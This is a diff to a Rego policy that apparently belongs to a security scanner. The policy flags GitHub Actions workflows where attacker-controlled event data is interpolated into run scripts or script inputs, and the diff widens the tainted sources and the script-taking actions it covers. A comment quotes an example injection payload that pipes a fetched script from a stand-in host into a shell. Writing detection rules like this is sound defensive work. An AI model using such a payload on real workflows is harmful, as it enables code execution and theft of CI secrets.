@@ -3,8 +3,17 @@
 # description: >-
 #   A `${{ ... }}` expression that reads attacker-controllable event data (issue/PR/discussion
 #   titles and bodies, comment and review bodies, PR head branch and label, commit messages and
-#   author names, `github.head_ref`, workflow_run head branch/commit message, wiki page names) is
-#   placed directly inside a step's `run:` script or the `script:` of actions/github-script.
+#   author and committer names, `github.head_ref`, the PR head repository's description and
+#   default branch, check suite branches, workflow_run head branch/title/commit message, wiki
+#   page names) is
+#   placed directly inside a step's `run:` script (any shell: bash, pwsh, cmd, python) or an
+#   action input that is a script (`script:` of actions/github-script, `inlineScript:` of
+#   azure/powershell and azure/cli, `cmd:` of mikefarah/yq). The same holds for data that
+#   reaches the expression indirectly: `${{ env.X }}` where X is set from event data,
+#   `${{ matrix.X }}` of a matrix built from event data, `${{ steps.S.outputs.X }}` (or
+#   `fromJSON` of it) of a step that writes event data to its outputs, in a composite action
+#   `${{ inputs.X }}`, which any caller fills, and in a workflow its free-text
+#   `workflow_dispatch` / `workflow_call` inputs (type `string`; not choice, boolean, number).
 #   GitHub substitutes the value into the script text before it runs, so anyone who can open an
 #   issue, comment or pull request can inject shell or JavaScript commands that run with the job's
 #   GITHUB_TOKEN, secrets and runner access.
@@ -20,7 +29,7 @@
 #     echo "$TITLE"` (quoted), or in github-script read `context.payload.issue.title` /
 #     `process.env.TITLE`. Also restrict the workflow's `permissions:` to what it needs.
 #   kinds: [github-actions]
-#   aliases: [CKV_GHA_2]
+#   aliases: [CKV_GHA_2, zizmor/template-injection]
 package tollgate.pipelines.github.expression_injection
 
 # Script injection: `${{ ... }}` is expanded into the text of a `run:` script (or the
@@ -29,66 +38,51 @@ package tollgate.pipelines.github.expression_injection
 # message -- its content becomes code: `a"; curl evil.sh | sh; #` in an issue title runs on
 # the runner with the workflow's GITHUB_TOKEN and secrets.
 
+import data.lib.github_actions as gha
 import data.lib.guard
 
-# Event fields an outsider controls (GitHub contexts are case-insensitive).
-untrusted_pattern := `(?i)(^|[^A-Za-z0-9_.])(github\.event\.(issue\.(title|body)|pull_request\.(title|body|head\.ref|head\.label)|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|head_commit\.(message|author\.(name|email))|commits(\[[^\]]*\]|\.\*)\.(message|author\.(name|email))|workflow_run\.(head_branch|head_commit\.(message|author\.(name|email)))|pages(\[[^\]]*\]|\.\*)\.page_name)|github\.head_ref)([^A-Za-z0-9_]|$)`
-
-doc := d if {
-	d := input.document
-	is_object(d)
-} else := {}
-
-jobs := j if {
-	j := guard.get(doc, "jobs", {})
-	is_object(j)
-} else := {}
-
-# [path, step] for every step of every job, and of a composite action (action.yml).
-steps contains [["jobs", jid, "steps", i], step] if {
-	some jid, job in jobs
-	list := guard.get(job, "steps", [])
-	is_array(list)
-	some i, step in list
-	is_object(step)
+# Action inputs that are script text, by action name: the action evaluates them as code.
+script_inputs := {
+	"actions/github-script": "script",
+	"azure/powershell": "inlinescript",
+	"azure/cli": "inlinescript",
+	"mikefarah/yq": "cmd",
 }
 
-steps contains [["runs", "steps", i], step] if {
-	list := guard.get(doc, ["runs", "steps"], [])
-	is_array(list)
-	some i, step in list
-	is_object(step)
+# The script nodes of a step: [record, path, where, script]. `run` in any shell, and the script
+# inputs of the actions above (input names are case-insensitive).
+scripts contains [rec, array.concat(rec.path, ["run"]), "a `run:` script", rec.step.run] if {
+	some rec in gha.step_records
+	is_string(rec.step.run)
 }
 
-# The script nodes of a step: `run`, and `with.script` of actions/github-script.
-scripts contains [array.concat(path, ["run"]), "run", step.run] if {
-	some [path, step] in steps
-	is_string(step.run)
-}
-
-scripts contains [array.concat(path, ["with", "script"]), "github-script", script] if {
-	some [path, step] in steps
-	is_string(step.uses)
-	startswith(lower(step.uses), "actions/github-script@")
-	script := guard.get(step, ["with", "script"], null)
+scripts contains [rec, array.concat(rec.path, ["with", k]), where, script] if {
+	some rec in gha.step_records
+	name := gha.action_name(rec.step.uses)
+	input_name := script_inputs[name]
+	inputs := guard.get(rec.step, "with", {})
+	is_object(inputs)
+	some k, script in inputs
+	lower(k) == input_name
 	is_string(script)
+	where := sprintf("the `%s:` input of %s", [k, name])
 }
 
-# A comparison or predicate yields only true/false, which cannot inject anything.
-boolean_only(expr) if {
-	regex.match(`(==|!=|<=|>=|(?i)\b(contains|startsWith|endsWith)\()`, expr)
-	not contains(expr, "&&")
-	not contains(expr, "||")
-}
+# How the data reaches the expression, when not directly.
+suffix(why) := "" if why == ""
+
+suffix(why) := sprintf(" (%s)", [why]) if why != ""
 
 deny contains v if {
-	some [path, where, script] in scripts
-	some expr in regex.find_n(`\$\{\{[^}]*\}\}`, script, -1)
-	regex.match(untrusted_pattern, expr)
-	not boolean_only(expr)
+	some [rec, path, where, script] in scripts
+	some expr in gha.expressions(script)
+	why := gha.taint(rec, expr)
+	how := suffix(why)
+	some line in gha.lines_with(script, expr)
 	v := {
-		"msg": sprintf("%s is interpolated into a %s script: its attacker-controlled content is executed as code; pass it through an env variable instead", [expr, where]),
+		"msg": sprintf("%s%s is interpolated into %s: its attacker-controlled content is executed as code; pass it through an env variable instead", [expr, how, where]),
 		"path": path,
 		"text": expr,
+		"within": line,
 	}
 }
